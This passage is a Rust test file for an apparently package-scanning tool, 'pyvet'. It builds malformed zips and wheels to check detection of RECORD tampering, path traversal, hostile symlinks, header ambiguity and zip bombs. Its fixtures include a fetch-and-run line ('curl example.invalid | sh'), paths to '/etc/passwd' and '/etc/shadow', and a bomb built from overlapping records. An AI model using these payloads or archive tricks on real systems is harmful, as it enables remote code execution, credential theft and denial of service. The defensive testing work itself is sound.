//! Archive reading on archives generated here: a small test-only zip writer (so we control
//! every odd corner: prefixes, duplicated end records, zip64, data descriptors, unsupported
//! methods, unsafe names) and tarballs from the `tar` crate's Builder. Nothing is read from
//! disk except in the directory-walking tests, which build their tree in a temp directory.

use std::io::{Read, Write};
use std::time::Instant;

use base64::Engine as _;
use pyvet::archive::{
    read_artifact, read_artifact_with, read_path, ArchiveContents, ArchiveError, Limits,
    ReadOptions,
};
use pyvet::finding::Severity;
use sha2::Digest as _;

// ------------------------------------------------------------------------------------------
// A test-only zip writer.

#[derive(Clone)]
struct ZEntry {
    name: Vec<u8>,
    data: Vec<u8>,
    /// 0 stored, 8 deflate, anything else is written as-is (data stored raw).
    method: u16,
    unix_mode: Option<u32>,
    flags: u16,
    descriptor: bool,
    /// `data` is already compressed: write it as-is whatever the method.
    precompressed: bool,
    /// Info-ZIP Unicode Path extra field (0x7075) in the central record.
    unicode_path: Option<Vec<u8>>,
}

impl ZEntry {
    fn new(name: &str, data: &[u8]) -> Self {
        Self {
            name: name.as_bytes().to_vec(),
            data: data.to_vec(),
            method: 8,
            unix_mode: None,
            flags: 0,
            descriptor: false,
            precompressed: false,
            unicode_path: None,
        }
    }
    fn raw_name(name: &[u8], data: &[u8]) -> Self {
        Self {
            name: name.to_vec(),
            ..Self::new("x", data)
        }
    }
    fn stored(mut self) -> Self {
        self.method = 0;
        self
    }
    fn method(mut self, m: u16) -> Self {
        self.method = m;
        self
    }
    fn mode(mut self, mode: u32) -> Self {
        self.unix_mode = Some(mode);
        self
    }
    fn flags(mut self, f: u16) -> Self {
        self.flags = f;
        self
    }
    fn descriptor(mut self) -> Self {
        self.descriptor = true;
        self
    }
}

#[derive(Default)]
struct ZipOpts {
    prefix: Vec<u8>,
    comment: Vec<u8>,
    duplicate_eocd: bool,
    zip64: bool,
    /// Extra central records pointing at the first entry's data (overlapping-file bomb).
    overlap: usize,
    /// The last this many entries get a local header and data but no central record.
    unlisted: usize,
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn crc32(data: &[u8]) -> u32 {
    let mut c = flate2::Crc::new();
    c.update(data);
    c.sum()
}

fn zip_with(entries: &[ZEntry], o: &ZipOpts) -> Vec<u8> {
    let mut out = o.prefix.clone();
    let base = out.len();
    let mut central = Vec::new();
    let listed = entries.len() - o.unlisted;
    for (i, e) in entries.iter().enumerate() {
        let comp = if e.method == 8 && !e.precompressed {
            deflate(&e.data)
        } else {
            e.data.clone()
        };
        let crc = crc32(&e.data);
        let offset = (out.len() - base) as u64;
        let flags = e.flags | if e.descriptor { 8 } else { 0 } | 0x800;
        // Local header.
        out.extend_from_slice(&0x0403_4b50u32.to_le_bytes());
        out.extend_from_slice(&20u16.to_le_bytes());
        out.extend_from_slice(&flags.to_le_bytes());
        out.extend_from_slice(&e.method.to_le_bytes());
        out.extend_from_slice(&[0, 0, 0x21, 0]); // time, date
        if e.descriptor {
            out.extend_from_slice(&[0u8; 12]);
        } else {
            out.extend_from_slice(&crc.to_le_bytes());
            out.extend_from_slice(&(comp.len() as u32).to_le_bytes());
            out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        }
        out.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        out.extend_from_slice(&0u16.to_le_bytes());
        out.extend_from_slice(&e.name);
        out.extend_from_slice(&comp);
        if e.descriptor {
            out.extend_from_slice(&0x0807_4b50u32.to_le_bytes());
            out.extend_from_slice(&crc.to_le_bytes());
            out.extend_from_slice(&(comp.len() as u32).to_le_bytes());
            out.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
        }
        if i >= listed {
            continue;
        }
        // Central record.
        let mut extra = Vec::new();
        if let Some(u) = &e.unicode_path {
            extra.extend_from_slice(&0x7075u16.to_le_bytes());
            extra.extend_from_slice(&((u.len() + 5) as u16).to_le_bytes());
            extra.push(1);
            extra.extend_from_slice(&crc32(&e.name).to_le_bytes());
            extra.extend_from_slice(u);
        }
        let (c32, u32_, o32) = if o.zip64 {
            extra.extend_from_slice(&1u16.to_le_bytes());
            extra.extend_from_slice(&24u16.to_le_bytes());
            // (zip64 and unicode paths are not combined in these tests)
            extra.extend_from_slice(&(e.data.len() as u64).to_le_bytes());
            extra.extend_from_slice(&(comp.len() as u64).to_le_bytes());
            extra.extend_from_slice(&offset.to_le_bytes());
            (u32::MAX, u32::MAX, u32::MAX)
        } else {
            (comp.len() as u32, e.data.len() as u32, offset as u32)
        };
        let made_by: u16 = if e.unix_mode.is_some() {
            0x031e
        } else {
            0x0014
        };
        central.extend_from_slice(&0x0201_4b50u32.to_le_bytes());
        central.extend_from_slice(&made_by.to_le_bytes());
        central.extend_from_slice(&45u16.to_le_bytes());
        central.extend_from_slice(&flags.to_le_bytes());
        central.extend_from_slice(&e.method.to_le_bytes());
        central.extend_from_slice(&[0, 0, 0x21, 0]);
        central.extend_from_slice(&crc.to_le_bytes());
        central.extend_from_slice(&c32.to_le_bytes());
        central.extend_from_slice(&u32_.to_le_bytes());
        central.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
        central.extend_from_slice(&(extra.len() as u16).to_le_bytes());
        central.extend_from_slice(&0u16.to_le_bytes()); // comment
        central.extend_from_slice(&0u16.to_le_bytes()); // disk
        central.extend_from_slice(&0u16.to_le_bytes()); // internal attr
        central.extend_from_slice(&(e.unix_mode.unwrap_or(0) << 16).to_le_bytes());
        central.extend_from_slice(&o32.to_le_bytes());
        central.extend_from_slice(&e.name);
        central.extend_from_slice(&extra);
    }
    if o.overlap > 0 {
        let name_len = entries[0].name.len();
        let first = central[..46 + name_len].to_vec();
        for i in 0..o.overlap {
            let name = format!("{:0width$}", i, width = name_len);
            central.extend_from_slice(&first[..46]);
            central.extend_from_slice(name.as_bytes());
        }
    }
    let cd_offset = (out.len() - base) as u64;
    out.extend_from_slice(&central);
    let n = (listed + o.overlap) as u64;
    if o.zip64 {
        let z64_offset = (out.len() - base) as u64;
        out.extend_from_slice(&0x0606_4b50u32.to_le_bytes());
        out.extend_from_slice(&44u64.to_le_bytes());
        out.extend_from_slice(&45u16.to_le_bytes());
        out.extend_from_slice(&45u16.to_le_bytes());
        out.extend_from_slice(&0u32.to_le_bytes());
        out.extend_from_slice(&0u32.to_le_bytes());
        out.extend_from_slice(&n.to_le_bytes());
        out.extend_from_slice(&n.to_le_bytes());
        out.extend_from_slice(&(central.len() as u64).to_le_bytes());
        out.extend_from_slice(&cd_offset.to_le_bytes());
        out.extend_from_slice(&0x0706_4b50u32.to_le_bytes());
        out.extend_from_slice(&0u32.to_le_bytes());
        out.extend_from_slice(&z64_offset.to_le_bytes());
        out.extend_from_slice(&1u32.to_le_bytes());
    }
    let mut eocd = Vec::new();
    eocd.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    eocd.extend_from_slice(&[0u8; 4]);
    let (n16, size32, off32) = if o.zip64 {
        (0xFFFFu16, u32::MAX, u32::MAX)
    } else {
        (n.min(0xFFFF) as u16, central.len() as u32, cd_offset as u32)
    };
    eocd.extend_from_slice(&n16.to_le_bytes());
    eocd.extend_from_slice(&n16.to_le_bytes());
    eocd.extend_from_slice(&size32.to_le_bytes());
    eocd.extend_from_slice(&off32.to_le_bytes());
    eocd.extend_from_slice(&(o.comment.len() as u16).to_le_bytes());
    eocd.extend_from_slice(&o.comment);
    out.extend_from_slice(&eocd);
    if o.duplicate_eocd {
        out.extend_from_slice(&eocd);
    }
    out
}

fn zip(entries: &[ZEntry]) -> Vec<u8> {
    zip_with(entries, &ZipOpts::default())
}

fn record_hash(data: &[u8]) -> String {
    format!(
        "sha256={}",
        base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data))
    )
}

const DI: &str = "demo-1.0.dist-info";

/// Wheel entries with a correct RECORD covering `files` plus METADATA and WHEEL.
fn wheel_entries(files: &[(&str, &[u8])]) -> Vec<ZEntry> {
    let metadata =
        b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: idna\n\nbody\n";
    let mut all: Vec<(String, Vec<u8>)> = files
        .iter()
        .map(|(p, d)| (p.to_string(), d.to_vec()))
        .collect();
    all.push((format!("{DI}/METADATA"), metadata.to_vec()));
    all.push((format!("{DI}/WHEEL"), b"Wheel-Version: 1.0\n".to_vec()));
    let mut record = String::new();
    for (p, d) in &all {
        record.push_str(&format!("{p},{},{}\n", record_hash(d), d.len()));
    }
    record.push_str(&format!("{DI}/RECORD,,\n"));
    let mut entries: Vec<ZEntry> = all.iter().map(|(p, d)| ZEntry::new(p, d)).collect();
    entries.push(ZEntry::new(&format!("{DI}/RECORD"), record.as_bytes()));
    entries
}

const WHEEL: &str = "demo-1.0-py3-none-any.whl";

fn read(filename: &str, bytes: &[u8]) -> ArchiveContents {
    read_artifact(filename, bytes, &Limits::default()).expect("readable")
}

fn rules(c: &ArchiveContents) -> Vec<&str> {
    c.findings.iter().map(|f| f.rule.as_str()).collect()
}

/// The bytes a limit finding says were inflated before the reader stopped (its evidence reads
/// `inflated N bytes ...` or `N bytes inflated ...`): the work done, where a timed test would
/// measure seconds.
fn inflated_bytes(f: &pyvet::finding::Finding) -> u64 {
    let evidence = f.evidence.as_deref().unwrap_or_default();
    let words: Vec<&str> = evidence.split_whitespace().collect();
    let at = words
        .iter()
        .position(|w| *w == "inflated")
        .expect("evidence names the inflated bytes");
    let number = if at + 1 < words.len() && words[at + 1].parse::<u64>().is_ok() {
        words[at + 1]
    } else {
        words[at - 2]
    };
    number
        .parse()
        .unwrap_or_else(|_| panic!("no byte count in {evidence:?}"))
}

fn find<'a>(c: &'a ArchiveContents, rule: &str) -> &'a pyvet::finding::Finding {
    c.findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} finding in {:#?}", c.findings))
}

fn paths(c: &ArchiveContents) -> Vec<&str> {
    c.entries.iter().map(|e| e.path.as_str()).collect()
}

// ------------------------------------------------------------------------------------------
// Wheels and RECORD.

#[test]
fn normal_wheel_with_correct_record_has_no_findings() {
    let bytes = zip(&wheel_entries(&[
        ("demo/__init__.py", b"print('hi')\n"),
        ("demo/data.bin", &[1, 2, 3]),
    ]));
    let c = read(WHEEL, &bytes);
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
    assert_eq!(c.kind, pyvet::package::ArtifactKind::Wheel);
    assert!(paths(&c).contains(&"demo/__init__.py"));
    let init = c
        .entries
        .iter()
        .find(|e| e.path == "demo/__init__.py")
        .unwrap();
    assert_eq!(*init.data, b"print('hi')\n");
    let md = c.metadata.expect("metadata");
    assert_eq!(md.name.as_deref(), Some("demo"));
    assert_eq!(md.version.as_deref(), Some("1.0"));
    assert_eq!(md.requires_dist, vec!["idna"]);
}

#[test]
fn tampered_python_file_is_a_high_record_mismatch() {
    let mut entries = wheel_entries(&[("demo/__init__.py", b"print('hi')\n")]);
    entries[0].data = b"import os; os.system('curl example.invalid | sh')\n".to_vec();
    let c = read(WHEEL, &zip(&entries));
    let f = find(&c, "record-mismatch");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.location.path.as_deref(), Some("demo/__init__.py"));
    assert_eq!(f.artifact.as_deref(), Some(WHEEL));
    let ev = f.evidence.as_deref().unwrap();
    assert!(ev.contains(&record_hash(b"print('hi')\n")), "{ev}");
    assert!(ev.contains("size differs"), "{ev}");
    assert!(ev.len() <= 210);
}

#[test]
fn unlisted_python_file_is_a_record_mismatch_but_signatures_are_not() {
    let mut entries = wheel_entries(&[("demo/__init__.py", b"")]);
    entries.push(ZEntry::new("demo/evil.pth", b"import os"));
    entries.push(ZEntry::new(&format!("{DI}/RECORD.jws"), b"sig"));
    let c = read(WHEEL, &zip(&entries));
    let mismatches: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "record-mismatch")
        .collect();
    assert_eq!(mismatches.len(), 1, "{:#?}", c.findings);
    assert_eq!(
        mismatches[0].location.path.as_deref(),
        Some("demo/evil.pth")
    );
    assert_eq!(mismatches[0].severity, Severity::High);
    assert!(mismatches[0].message.contains("not listed"));
}

#[test]
fn record_entry_missing_from_wheel_and_tampered_data_file_are_medium() {
    let mut entries = wheel_entries(&[("demo/gone.txt", b"x"), ("demo/blob.bin", b"abc")]);
    entries.remove(0);
    let blob = entries
        .iter_mut()
        .find(|e| e.name == b"demo/blob.bin")
        .unwrap();
    blob.data = b"abd".to_vec();
    let c = read(WHEEL, &zip(&entries));
    let gone = c
        .findings
        .iter()
        .find(|f| f.location.path.as_deref() == Some("demo/gone.txt"))
        .expect("missing file reported");
    assert_eq!(gone.rule, "record-mismatch");
    assert_eq!(gone.severity, Severity::Medium);
    let blob = c
        .findings
        .iter()
        .find(|f| f.location.path.as_deref() == Some("demo/blob.bin"))
        .expect("tampered data reported");
    assert_eq!(blob.severity, Severity::Medium);
    assert!(blob.evidence.as_deref().unwrap().contains("hash differs"));
}

#[test]
fn record_with_sha512_and_quoted_paths() {
    let b64 = |d: &[u8]| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(d);
    let good = b"x = 1\n";
    let record = format!(
        "\"demo/a,b.py\",sha512={},{}\ndemo/c.py,sha512={},6\n{DI}/RECORD,,\n",
        b64(&sha2::Sha512::digest(good)),
        good.len(),
        b64(&sha2::Sha512::digest(good)),
    );
    let entries = vec![
        ZEntry::new("demo/a,b.py", good),
        ZEntry::new("demo/c.py", b"x = 2\n"),
        ZEntry::new(&format!("{DI}/RECORD"), record.as_bytes()),
    ];
    let c = read(WHEEL, &zip(&entries));
    let m: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "record-mismatch")
        .collect();
    assert_eq!(m.len(), 1, "{:#?}", c.findings);
    assert_eq!(m[0].location.path.as_deref(), Some("demo/c.py"));
    assert!(m[0].evidence.as_deref().unwrap().contains("sha512"));
}

#[test]
fn wheel_without_record_is_record_missing() {
    let mut entries = wheel_entries(&[("demo/__init__.py", b"")]);
    entries.retain(|e| !e.name.ends_with(b"RECORD"));
    let c = read(WHEEL, &zip(&entries));
    assert_eq!(rules(&c), vec!["record-missing"]);
    assert_eq!(c.findings[0].severity, Severity::Medium);
}

#[test]
fn record_still_hashes_files_that_are_only_kept_as_a_prefix() {
    let big: Vec<u8> = (0..3_000_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let mut entries = wheel_entries(&[("demo/lib.so", &big), ("demo/mod.py", b"x = 1\n")]);
    let opts = ReadOptions::with_limits(Limits::default());
    let out = read_artifact_with(WHEEL, &zip(&entries), &opts).unwrap();
    assert!(
        out.contents.findings.is_empty(),
        "{:#?}",
        out.contents.findings
    );
    let so = out
        .contents
        .entries
        .iter()
        .find(|e| e.path == "demo/lib.so")
        .unwrap();
    assert_eq!(*so.data, &big[..4096]);
    assert_eq!(out.partial.get("demo/lib.so"), Some(&(big.len() as u64)));
    assert!(!out.partial.contains_key("demo/mod.py"));
    // Change one byte past the kept prefix: RECORD still catches it.
    entries[0].data[2_000_000] ^= 1;
    let out = read_artifact_with(WHEEL, &zip(&entries), &opts).unwrap();
    let f = out
        .contents
        .findings
        .iter()
        .find(|f| f.rule == "record-mismatch")
        .expect("mismatch");
    assert_eq!(f.location.path.as_deref(), Some("demo/lib.so"));
    // keep_all keeps the whole file.
    let all = read_artifact_with(
        WHEEL,
        &zip(&entries),
        &ReadOptions::keep_all(Limits::default()),
    )
    .unwrap();
    let so = all
        .contents
        .entries
        .iter()
        .find(|e| e.path == "demo/lib.so")
        .unwrap();
    assert_eq!(so.data.len(), big.len());
    assert!(all.partial.is_empty());
}

// ------------------------------------------------------------------------------------------
// Zip structure.

#[test]
fn stored_and_data_descriptor_entries() {
    let mut entries = wheel_entries(&[("demo/a.py", b"a = 1\n"), ("demo/b.py", b"b = 2\n")]);
    entries[0] = entries[0].clone().stored();
    entries[1] = entries[1].clone().descriptor();
    let last = entries.len() - 1;
    entries[last] = entries[last].clone().descriptor().stored();
    let c = read(WHEEL, &zip(&entries));
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
    let b = c.entries.iter().find(|e| e.path == "demo/b.py").unwrap();
    assert_eq!(*b.data, b"b = 2\n");
}

#[test]
fn zip64_records_and_extra_fields() {
    let entries = wheel_entries(&[("demo/a.py", b"a = 1\n")]);
    let bytes = zip_with(
        &entries,
        &ZipOpts {
            zip64: true,
            ..Default::default()
        },
    );
    let c = read(WHEEL, &bytes);
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
    assert_eq!(c.entries.len(), entries.len());
}

#[test]
fn prefix_comment_and_duplicated_end_record_are_read_and_extra_data_reported() {
    let entries = wheel_entries(&[("demo/a.py", b"a = 1\n")]);
    // (options, severity of the extra-data finding: None when there is no extra data)
    for (opts, extra) in [
        (
            ZipOpts {
                prefix: b"#!/bin/sh\necho self-extracting stub\n".to_vec(),
                ..Default::default()
            },
            Some(Severity::Low),
        ),
        (
            ZipOpts {
                comment: b"a comment PK mentioning nothing".to_vec(),
                ..Default::default()
            },
            None,
        ),
        (
            ZipOpts {
                duplicate_eocd: true,
                ..Default::default()
            },
            Some(Severity::Medium),
        ),
        (
            ZipOpts {
                prefix: vec![0xAB; 1000],
                duplicate_eocd: true,
                comment: b"c".to_vec(),
                ..Default::default()
            },
            Some(Severity::Medium),
        ),
        (
            ZipOpts {
                prefix: vec![7; 33],
                zip64: true,
                ..Default::default()
            },
            Some(Severity::Low),
        ),
    ] {
        let c = read(WHEEL, &zip_with(&entries, &opts));
        let a = c.entries.iter().find(|e| e.path == "demo/a.py").unwrap();
        assert_eq!(*a.data, b"a = 1\n");
        assert!(
            c.findings.iter().all(|f| f.rule == "archive-ambiguous"
                && f.location.path.is_none()
                && f.severity <= Severity::Medium),
            "{:#?}",
            c.findings
        );
        assert_eq!(
            c.findings.iter().map(|f| f.severity).max(),
            extra,
            "{:#?}",
            c.findings
        );
    }
}

#[test]
fn local_header_disagreeing_with_central_directory_is_ambiguous() {
    let mut bytes = zip(&[ZEntry::new("pkg/ok.py", b"harmless = 1").stored()]);
    // Rename the file in its local header only (same length): `pkg/ok.py` -> `pkg/ev.py`.
    let at = memchr::memmem::find(&bytes, b"pkg/ok.py").unwrap();
    bytes[at + 4..at + 6].copy_from_slice(b"ev");
    let c = read("x.zip", &bytes);
    let f = find(&c, "archive-ambiguous");
    assert_eq!(f.location.path.as_deref(), Some("pkg/ok.py"));
    assert!(f.evidence.as_deref().unwrap().contains("pkg/ev.py"));
    assert_eq!(
        f.severity,
        Severity::High,
        "a Python file under another name"
    );
    assert_eq!(
        paths(&c),
        vec!["pkg/ok.py", "pkg/ev.py"],
        "inspected under the central name and under the one a streaming extractor uses"
    );
    assert_eq!(c.entries[1].data, c.entries[0].data);
    // A clean archive has no such finding (data descriptors included).
    let c = read("x.zip", &zip(&[ZEntry::new("a.py", b"a").descriptor()]));
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
}

/// Set the declared inflated size of the first entry, in its local header and in the central
/// directory alike (so only the size itself disagrees with the data).
fn declare_size(bytes: &mut [u8], size: u32) {
    let local = memchr::memmem::find(bytes, b"PK\x03\x04").unwrap();
    bytes[local + 22..local + 26].copy_from_slice(&size.to_le_bytes());
    let central = memchr::memmem::find(bytes, b"PK\x01\x02").unwrap();
    bytes[central + 24..central + 28].copy_from_slice(&size.to_le_bytes());
}

#[test]
fn declared_size_that_differs_from_the_inflated_size_is_ambiguous() {
    let code = b"x = 1\n".repeat(100);
    let mut bytes = zip(&[ZEntry::new("pkg/a.py", &code)]);
    declare_size(&mut bytes, 3 << 20);
    let c = read("x.zip", &bytes);
    let f = find(&c, "archive-ambiguous");
    assert_eq!(f.location.path.as_deref(), Some("pkg/a.py"));
    let evidence = f.evidence.as_deref().unwrap();
    assert!(
        evidence.contains(&(3u64 << 20).to_string()) && evidence.contains("600"),
        "{evidence}"
    );
    // The code is read whole whatever the header claims.
    assert_eq!(*c.entries[0].data, code);

    // A data file claiming to be large is kept only as a prefix, and still reported.
    let blob: Vec<u8> = (0..10_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let mut bytes = zip(&[ZEntry::new("pkg/blob.bin", &blob)]);
    declare_size(&mut bytes, 3 << 20);
    let o = read_artifact_with("x.zip", &bytes, &ReadOptions::default()).unwrap();
    assert!(o
        .contents
        .findings
        .iter()
        .any(|f| f.rule == "archive-ambiguous"));
    assert_eq!(*o.contents.entries[0].data, blob[..4096]);
    assert_eq!(o.partial.get("pkg/blob.bin"), Some(&10_000));

    // The true size: no finding, and the same prefix policy as without any size.
    let big: Vec<u8> = (0..(2u32 << 20)).map(|i| (i % 253) as u8).collect();
    let o = read_artifact_with(
        "x.zip",
        &zip(&[
            ZEntry::new("pkg/big.bin", &big),
            ZEntry::new("pkg/small.bin", &blob),
        ]),
        &ReadOptions::default(),
    )
    .unwrap();
    assert!(o.contents.findings.is_empty(), "{:#?}", o.contents.findings);
    assert_eq!(*o.contents.entries[0].data, big[..4096]);
    assert_eq!(
        *o.contents.entries[1].data, blob,
        "small files are kept whole"
    );
}

#[test]
fn unicode_path_extra_field_is_the_name_python_uses() {
    let mut evil = ZEntry::new("pkg/ok.py", b"import os");
    evil.unicode_path = Some(b"../evil.py".to_vec());
    let mut renamed = ZEntry::new("pkg/a.py", b"a");
    renamed.unicode_path = Some(b"pkg/b.py".to_vec());
    let mut cp437 = ZEntry::raw_name(b"pkg/caf\x82.py", b"c");
    cp437.unicode_path = Some("pkg/café.py".as_bytes().to_vec());
    let mut stale = ZEntry::new("pkg/d.py", b"d");
    stale.unicode_path = Some(b"pkg/e.py".to_vec());
    let c = read("x.zip", &zip(&[evil, renamed, cp437, stale.clone()]));
    // The unsafe Unicode name is reported; the content is still read under the header name
    // that older Pythons install. A renamed entry is read under both names.
    assert_eq!(
        paths(&c),
        [
            "pkg/ok.py",
            "pkg/b.py",
            "pkg/a.py",
            "pkg/café.py",
            "pkg/e.py",
            "pkg/d.py"
        ]
    );
    assert_eq!(
        find(&c, "path-traversal").location.path.as_deref(),
        Some("../evil.py")
    );
    let amb: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "archive-ambiguous")
        .map(|f| f.location.path.clone().unwrap())
        .collect();
    assert_eq!(amb, vec!["pkg/b.py", "pkg/e.py"], "{:#?}", c.findings);
    assert!(c
        .findings
        .iter()
        .filter(|f| f.rule == "archive-ambiguous")
        .all(|f| f.severity == Severity::High));
    // A field whose CRC does not match the header name is stale and ignored.
    let mut bytes = zip(&[stale]);
    let at = memchr::memmem::find(&bytes, b"pkg/e.py").unwrap();
    bytes[at - 4] ^= 0xFF; // corrupt the stored CRC
    let c = read("x.zip", &bytes);
    assert_eq!(paths(&c), vec!["pkg/d.py"]);
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
}

#[test]
fn unsupported_methods_and_encryption_are_skipped_with_findings() {
    let mut entries = wheel_entries(&[("demo/a.txt", b"aaa"), ("demo/b.py", b"b")]);
    entries[0] = entries[0].clone().method(12);
    entries[1] = entries[1].clone().flags(1);
    let c = read(WHEEL, &zip(&entries));
    let unsupported: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "archive-unsupported-entry")
        .collect();
    assert_eq!(unsupported.len(), 2, "{:#?}", c.findings);
    assert_eq!(unsupported[0].severity, Severity::Info);
    assert!(unsupported[0].message.contains("bzip2"));
    assert_eq!(unsupported[1].severity, Severity::Medium);
    // Present but unread: RECORD does not call them missing.
    assert!(!rules(&c).contains(&"record-mismatch"), "{:#?}", c.findings);
    assert!(!paths(&c).contains(&"demo/a.txt"));
}

#[test]
fn duplicate_entries_with_different_content_are_reported_identical_ones_are_not() {
    let same = zip(&[ZEntry::new("pkg/a.py", b"x"), ZEntry::new("pkg/a.py", b"x")]);
    let c = read("pkg-1.0.zip", &same);
    assert!(c.findings.is_empty(), "{:#?}", c.findings);
    let differ = zip(&[
        ZEntry::new("pkg/a.py", b"harmless = 1"),
        ZEntry::new("pkg/a.py", b"import os"),
    ]);
    let c = read("pkg-1.0.zip", &differ);
    let f = find(&c, "duplicate-entry");
    assert_eq!(f.severity, Severity::Medium);
    assert_eq!(f.location.path.as_deref(), Some("pkg/a.py"));
    assert_eq!(c.entries.len(), 2, "both copies are inspected");
    let case = zip(&[ZEntry::new("pkg/A.py", b"1"), ZEntry::new("pkg/a.py", b"2")]);
    let c = read("pkg-1.0.zip", &case);
    assert_eq!(find(&c, "duplicate-entry").severity, Severity::Low);
}

#[test]
fn unsafe_zip_names_are_path_traversal_and_skipped() {
    let bytes = zip(&[
        ZEntry::new("../evil.py", b"x"),
        ZEntry::new("/etc/passwd", b"x"),
        ZEntry::new("C:\\x", b"x"),
        ZEntry::new("pkg/../../up.py", b"x"),
        ZEntry::raw_name(b"pkg/\xff\xfe.py", b"x"),
        ZEntry::raw_name(b"pkg/nul\0.py", b"x"),
        ZEntry::new("pkg/ok.py", b"ok"),
    ]);
    let c = read("pkg-1.0.zip", &bytes);
    assert_eq!(paths(&c), vec!["pkg/ok.py"]);
    let trav: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "path-traversal")
        .collect();
    assert_eq!(trav.len(), 6, "{:#?}", c.findings);
    assert!(trav.iter().all(|f| f.severity == Severity::High));
    assert_eq!(trav[0].location.path.as_deref(), Some("../evil.py"));
    assert_eq!(
        trav[4].location.path.as_deref(),
        Some("pkg/\u{fffd}\u{fffd}.py")
    );
}

#[test]
fn zip_symlinks_and_devices_are_archive_links() {
    let bytes = zip(&[
        ZEntry::new("pkg/inside", b"../pkg/ok.py").mode(0o120_777),
        ZEntry::new("pkg/outside", b"/etc/shadow").mode(0o120_777),
        ZEntry::new("pkg/dev", b"").mode(0o020_644),
        ZEntry::new("pkg/ok.py", b"ok").mode(0o100_644),
        ZEntry::new("pkg/sub/", b"").mode(0o040_755),
    ]);
    let c = read("pkg-1.0.zip", &bytes);
    assert_eq!(paths(&c), vec!["pkg/ok.py"]);
    let links: Vec<_> = c
        .findings
        .iter()
        .filter(|f| f.rule == "archive-link")
        .collect();
    assert_eq!(links.len(), 3, "{:#?}", c.findings);
    assert_eq!(links[0].severity, Severity::Medium);
    assert_eq!(links[1].severity, Severity::High);
    assert!(links[1]
        .evidence
        .as_deref()
        .unwrap()
        .contains("/etc/shadow"));
    assert_eq!(links[2].severity, Severity::High);
}

#[test]
fn zip_bomb_is_stopped_without_inflating_everything() {
    let zeros = vec![0u8; 100 << 20];
    let bytes = zip(&[
        ZEntry::new("pkg/bomb.py", &zeros),
        ZEntry::new("pkg/ok.py", b"ok"),
    ]);
    drop(zeros);
    assert!(bytes.len() < 300_000, "compressed to {}", bytes.len());
    let c = read("pkg-1.0.zip", &bytes);
    let f = find(&c, "archive-bomb");
    assert_eq!(f.severity, Severity::Critical);
    // Work done, not time taken: the reader stopped after a part of the 100 MiB (about a fifth
    // with the default limits).
    let inflated = inflated_bytes(f);
    assert!(
        inflated < 32 << 20,
        "inflated {inflated} bytes before stopping"
    );
    assert_eq!(f.location.path.as_deref(), Some("pkg/bomb.py"));
    assert!(!paths(&c).contains(&"pkg/bomb.py"));
    assert!(paths(&c).contains(&"pkg/ok.py"));
}

#[test]
fn per_file_and_total_limits_on_plausible_ratios() {
    // Random-ish data compresses poorly: only the size limits can catch it.
    let mut x = 0x9E37_79B9_7F4A_7C15u64;
    let noise: Vec<u8> = (0..300_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    let bytes = zip(&[
        ZEntry::new("a.bin", &noise),
        ZEntry::new("b.bin", &noise[..1000]),
    ]);
    let limits = Limits {
        max_file_size: 100_000,
        ..Limits::default()
    };
    let c = read_artifact("x.zip", &bytes, &limits).unwrap();
    let f = find(&c, "archive-bomb");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(paths(&c), vec!["b.bin"]);
    let limits = Limits {
        max_total_size: 200_000,
        ..Limits::default()
    };
    let bytes = zip(&[
        ZEntry::new("a.bin", &noise[..150_000]),
        ZEntry::new("b.bin", &noise[150_000..]),
        ZEntry::new("c.bin", b"c"),
    ]);
    let c = read_artifact("x.zip", &bytes, &limits).unwrap();
    let f = find(&c, "archive-bomb");
    assert!(f.message.contains("total"), "{}", f.message);
    assert!(!paths(&c).contains(&"c.bin"));
}

#[test]
fn overlapping_entries_are_stopped_by_the_overall_ratio() {
    // 900 KB of zeros each: under the per-entry checks, but 2000 records share the data.
    let bytes = zip_with(
        &[ZEntry::new("bomb.txt", &vec![0u8; 900_000])],
        &ZipOpts {
            overlap: 2000,
            ..Default::default()
        },
    );
    let c = read("x.zip", &bytes);
    let f = find(&c, "archive-bomb");
    assert!(f.message.contains("ratio"), "{f:#?}");
    assert!(c.entries.len() < 100, "{}", c.entries.len());
    // The 2000 records would inflate 1.8 GB; the reader stopped long before (at about 150 MB).
    let inflated = inflated_bytes(f);
    assert!(
        inflated < 300_000_000,
        "inflated {inflated} bytes before stopping"
    );
}

#[test]
fn zip_sdist_metadata_and_corrupt_deflate() {
    let bytes = zip(&[
        ZEntry::new("demo-1.0/PKG-INFO", PKG_INFO),
        ZEntry::new("demo-1.0/setup.py", b"setup()"),
    ]);
    let c = read("demo-1.0.zip", &bytes);
    assert_eq!(c.kind, pyvet::package::ArtifactKind::Sdist);
    assert_eq!(c.metadata.unwrap().name.as_deref(), Some("demo"));
    let mut entry = ZEntry::new("a.py", &[0xFF; 64]); // invalid deflate data
    entry.precompressed = true;
    let mut empty = ZEntry::new("empty.py", b"");
    empty.precompressed = true; // deflate method with zero compressed bytes
    let c = read("y.zip", &zip(&[empty]));
    assert!(c.findings.is_empty() && c.entries[0].data.is_empty());
    let r = read_artifact("x.zip", &zip(&[entry]), &Limits::default());
